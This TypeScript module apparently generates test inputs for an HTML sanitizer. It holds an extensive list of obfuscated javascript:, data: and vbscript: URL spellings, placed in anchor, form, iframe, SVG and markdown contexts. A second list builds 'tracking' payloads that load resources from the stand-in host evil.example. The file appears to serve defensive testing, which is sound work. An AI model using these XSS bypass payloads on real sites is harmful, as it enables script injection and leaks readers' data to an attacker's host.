import type { Payload } from './handlers.ts'

const entities = (text: string) => [...text].map((letter) => `&#${letter.codePointAt(0)};`).join('')
const hex = (letter: string) => letter.codePointAt(0)?.toString(16)
const hexEntities = (text: string) => [...text].map((letter) => `&#x${hex(letter)};`).join('')
const percent = (text: string) => [...text].map((letter) => `%${hex(letter)}`).join('')

/** Spellings of a script address that some browser has executed. */
export const spellings: ((k: string) => string)[] = [
  (k) => `javascript:${k}`,
  (k) => `JaVaScRiPt:${k}`,
  (k) => ` javascript:${k}`,
  (k) => `\u0001javascript:${k}`,
  (k) => `\u001fjavascript:${k}`,
  (k) => `&#1;javascript:${k}`,
  (k) => `&#14; javascript:${k}`,
  (k) => `java\tscript:${k}`,
  (k) => `java\nscript:${k}`,
  (k) => `java\rscript:${k}`,
  (k) => `java&Tab;script:${k}`,
  (k) => `java&NewLine;script:${k}`,
  (k) => `java&#x0A;script:${k}`,
  (k) => `java&#09script:${k}`,
  (k) => `javascript&colon;${k}`,
  (k) => `javascript&#58;${k}`,
  (k) => `javascript&#x3a;${k}`,
  (k) => `javascript:\n${k}`,
  (k) => `javascript://%0a${k}`,
  (k) => `javascript://example.test/%0a${k}`,
  (k) => `javascript:/*--*/${k}`,
  (k) => `javascript:void(${k})`,
  (k) => `javascript:${percent(k)}`,
  (k) => entities(`javascript:${k}`),
  (k) => hexEntities(`javascript:${k}`),
  (k) => `&#0000106;avascript:${k}`,
  (k) => `j&#97;v&#97;script:${k}`,
  (k) => `javascript\u00a0:${k}`,
  (k) => `\ufeffjavascript:${k}`,
  (k) => `//javascript:${k}`,
  (k) => `x:javascript:${k}`,
  (k) => `http:javascript:${k}`,
  (k) => `data:text/html,<script>${k}</script>`,
  (k) => `data:text/html;base64,${Buffer.from(`<script>${k}</script>`).toString('base64')}`,
  (k) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${k}'/>`,
  (k) => `vbscript:${k}`,
  (k) => `blob:javascript:${k}`,
]

const links: ((address: string) => string)[] = [
  (address) => `<a href="${address}">a</a>`,
  (address) => `<a href='${address}' target=_self>a</a>`,
  (address) => `<p><a\nhref\n=\n"${address}">a</a></p>`,
]
const others: ((address: string) => string)[] = [
  (address) => `<a href=${address}>a</a>`,
  (address) => `<a xlink:href="${address}">a</a>`,
  (address) => `<svg><a href="${address}"><text y=20>a</text></a></svg>`,
  (address) => `<svg><a xlink:href="${address}"><text y=20>a</text></a></svg>`,
  (address) => `<svg><a><animate attributeName=href values="${address}"></animate><text y=20>a</text></a></svg>`,
  (address) => `<math href="${address}">a</math>`,
  (address) => `<math><mi xlink:href="${address}">a</mi></math>`,
  (address) => `<form action="${address}"><button>a</button></form>`,
  (address) => `<form><button formaction="${address}">a</button></form>`,
  (address) => `<form><input type=submit formaction="${address}"></form>`,
  (address) => `<button form=f formaction="${address}">a</button><form id=f></form>`,
  (address) => `<map name=m><area shape=default href="${address}"></map><img usemap=#m src=x width=9 height=9>`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<embed src="${address}">`,
  (address) => `<object data="${address}"></object>`,
  (address) => `<base href="${address}"><a href=x>a</a>`,
  (address) => `<meta http-equiv=refresh content="0;url=${address}">`,
  (address) => `<img src="${address}">`,
  (address) => `<table background="${address}"><tr><td>a</td></tr></table>`,
  (address) => `<div style="background:url(${address})">a</div>`,
  (address) => `[a](${address})`,
  (address) => `<${address}>`,
]

export const addressPayloads: Payload[] = [
  ...spellings.flatMap((spell) =>
    links.map(
      (link): Payload =>
        (k) =>
          link(spell(k)),
    ),
  ),
  ...others.flatMap((link): Payload[] => [(k) => link(`javascript:${k}`), (k) => link(`java&Tab;script:${k}`)]),
]

/** Without a script: the browser requests another host, which thus learns about the reader. */
export const trackingPayloads: Payload[] = [
  '<img src=//evil.example/N>',
  '<img src="http://evil.example/N">',
  '<img srcset="//evil.example/N 1x">',
  '<img data-file="x" src="//evil.example/N" alt="a">',
  '<picture><source srcset=//evil.example/N><img></picture>',
  '<video poster=//evil.example/N></video>',
  '<video src=//evil.example/N></video>',
  '<audio src=//evil.example/N></audio>',
  '<iframe src=//evil.example/N></iframe>',
  '<object data=//evil.example/N></object>',
  '<embed src=//evil.example/N>',
  '<link rel=stylesheet href=//evil.example/N>',
  '<link rel=prefetch href=//evil.example/N>',
  '<style>@import "//evil.example/N";</style>',
  '<style>body{background:url(//evil.example/N)}</style>',
  '<p style="background:url(//evil.example/N)">a</p>',
  '<p style="background-image:\\75rl(//evil.example/N)">a</p>',
  '<ul style="list-style:url(//evil.example/N)"><li>a</ul>',
  '<table background=//evil.example/N><tr><td>a</table>',
  '<input type=image src=//evil.example/N>',
  '<svg><image href=//evil.example/N /></svg>',
  '<svg><style>@import "//evil.example/N";</style></svg>',
  '<meta http-equiv=refresh content="0;url=//evil.example/N">',
  '<body background=//evil.example/N>',
  '<script src=//evil.example/N></script>',
].map(
  (text): Payload =>
    (_, n) =>
      text.replace('/N', `/${n}`),
)
